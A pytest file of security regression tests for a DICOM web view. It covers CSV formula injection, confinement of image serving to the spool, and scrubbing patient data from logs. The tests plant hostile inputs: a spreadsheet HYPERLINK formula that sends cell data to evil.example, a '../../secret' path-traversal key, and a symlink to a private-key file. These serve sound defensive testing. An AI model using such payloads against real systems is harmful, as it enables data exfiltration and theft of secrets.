"""The web view's security review: each finding's fix, checked in-process (Starlette's test
client against the real app and a real SQLite log) unless the real server is needed."""

from __future__ import annotations

import csv
import io
import json
import logging
import re

import pytest
from starlette.testclient import TestClient

from dicomnode.logdb.store import LogStore
from dicomnode.web.app import build_app
from dicomnode.web.passwords import hash_password
from dicomnode.web.settings import WebSettings
from tests.test_web_review import insert_decision

TOKEN = "reader-token-0123456789"
PASSWORD = "correct horse battery"
REVIEWERS = {"ana": hash_password(PASSWORD)}
BASE = "http://127.0.0.1"


@pytest.fixture
def store(tmp_path):
    with LogStore.open(f"sqlite:///{tmp_path / 'log.db'}") as log:
        yield log


def client_for(store: LogStore, **settings) -> TestClient:
    settings.setdefault("token", TOKEN)
    settings.setdefault("reviewers", REVIEWERS)
    return TestClient(build_app(store, WebSettings(**settings)), base_url=BASE)


def bearer() -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKEN}"}


def csrf_of(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def login(client: TestClient, password: str = PASSWORD, name: str = "ana"):
    token = csrf_of(client.get("/login").text)
    return client.post("/login", data={"csrf": token, "name": name, "password": password,
                                       "next": "/review"}, follow_redirects=False)  # fmt: skip


# 1. CSV formula injection


def test_csv_export_defuses_formulas_and_jsonl_keeps_values(store):
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    row = insert_decision(store, 1, calling_ae="=1+1", patient_id="+41", decision_key="k1",
                          accession_number="-2+3", body_part_examined="@SUM(A1)")
    store.record_verdict(row, "ana", "wrong", "PA", hyperlink)
    client = client_for(store)
    (exported,) = csv.DictReader(io.StringIO(client.get("/export.csv", headers=bearer()).text))
    assert exported["calling_ae"] == "'=1+1" and exported["patient_id"] == "'+41"
    assert exported["accession_number"] == "'-2+3"
    assert exported["body_part_examined"] == "'@SUM(A1)"
    assert exported["verdict_note"] == "'" + hyperlink
    assert exported["modality"] == "CR" and exported["verdict"] == "wrong"  # plain: untouched
    (line,) = client.get("/export.jsonl", headers=bearer()).text.splitlines()
    values = json.loads(line)
    assert values["calling_ae"] == "=1+1" and values["verdict_note"] == hyperlink


# 2. the full image: from the node's spool only, wherever in it the image has moved


def spool_with_forwarded(tmp_path, name: str = "00000000000000000007-000001"):
    spool = tmp_path / "spool"
    film = spool / "sent" / "PACS" / f"{name}.dcm"
    film.parent.mkdir(parents=True)
    (spool / "processing").mkdir()
    film.write_bytes(b"\0" * 128 + b"DICM forwarded")
    return spool, film


def test_full_image_is_served_from_the_spool_only(store, tmp_path):
    spool, film = spool_with_forwarded(tmp_path)
    secret = tmp_path / "secret.pem"
    secret.write_text("PRIVATE KEY MATERIAL\n")
    forwarded = insert_decision(store, 1, decision_key=film.stem,
                                spool_path=str(spool / "processing" / film.name))
    outside = insert_decision(store, 2, decision_key="k-outside", spool_path=str(secret))
    (spool / "sent" / "PACS" / "k-link.dcm").symlink_to(secret)  # a link inside the spool
    linked = insert_decision(store, 3, decision_key="k-link",
                             spool_path=str(spool / "processing" / "k-link.dcm"))
    escaping = insert_decision(store, 4, decision_key="../../secret",
                               spool_path=str(spool / "processing" / "x.dcm"))
    client = client_for(store, spool_root=str(spool))
    response = client.get(f"/decision/{forwarded}/image", headers=bearer())
    assert response.status_code == 200 and response.content == film.read_bytes()
    assert 'id="full-image"' in client.get(f"/decision/{forwarded}", headers=bearer()).text
    for row in (outside, linked, escaping):
        response = client.get(f"/decision/{row}/image", headers=bearer())
        assert response.status_code == 404 and b"PRIVATE KEY" not in response.content, row
        assert 'id="full-image"' not in client.get(f"/decision/{row}", headers=bearer()).text
    # no spool configured: no file at all
    assert client_for(store).get(f"/decision/{forwarded}/image",
                                 headers=bearer()).status_code == 404


def test_locate_finds_a_name_in_every_spool_state(tmp_path):
    from dicomnode.spool import locate

    spool, film = spool_with_forwarded(tmp_path)
    logged = str(tmp_path / "elsewhere" / "processing" / film.name)  # the node ran elsewhere
    assert locate(spool, logged) == film
    assert locate(spool, None, film.stem) == film
    for state in ("incoming", "processing", "outgoing/CT", "failed/_pipeline"):
        moved = spool / state / film.name
        moved.parent.mkdir(parents=True, exist_ok=True)
        film.rename(moved)
        assert locate(spool, logged) == moved, state
        film = moved
    assert locate(spool, str(tmp_path / "nothing.dcm")) is None
    assert locate(tmp_path / "no-spool", logged) is None


# 3. no patient data in logs: the 500 path logs one line, SQL errors hide their parameters


def test_a_failing_request_logs_one_line_without_values_or_traceback(store, caplog):
    import urllib.error
    import urllib.request

    from sqlalchemy import text

    from dicomnode.web.server import start_web

    insert_decision(store, 1)
    with store.engine.begin() as connection:  # every query of the search page now fails
        connection.execute(text("ALTER TABLE instances RENAME TO instances_gone"))
    caplog.set_level(logging.DEBUG)
    web = start_web(store, port=0, token=TOKEN)
    try:
        request = urllib.request.Request(web.url + "?patient=PATIENT-ID-4711&study=1.2.3.4711",
                                         headers=bearer())  # fmt: skip
        with pytest.raises(urllib.error.HTTPError) as failed:
            urllib.request.urlopen(request, timeout=30)
        assert failed.value.code == 500 and b"4711" not in failed.value.read()
    finally:
        web.stop()
    logged = "\n".join(f"{r.name} {r.getMessage()} {r.exc_text or ''} {r.exc_info or ''}"
                       for r in caplog.records)  # fmt: skip
    assert "4711" not in logged and "Traceback" not in logged, logged
    (line,) = [r for r in caplog.records if r.levelno >= logging.ERROR]
    assert line.getMessage() == "web view: GET / failed: OperationalError" and not line.exc_info


def test_sql_errors_hide_bound_parameters(store):
    from sqlalchemy import select
    from sqlalchemy.exc import SQLAlchemyError

    from dicomnode.logdb.models import InstanceRow

    with store.engine.begin() as connection:
        connection.exec_driver_sql("ALTER TABLE instances RENAME TO instances_gone")
    with pytest.raises(SQLAlchemyError) as failed, store.engine.connect() as connection:
        connection.execute(select(InstanceRow).where(InstanceRow.patient_id == "PATIENT-4711"))
    assert "PATIENT-4711" not in str(failed.value)
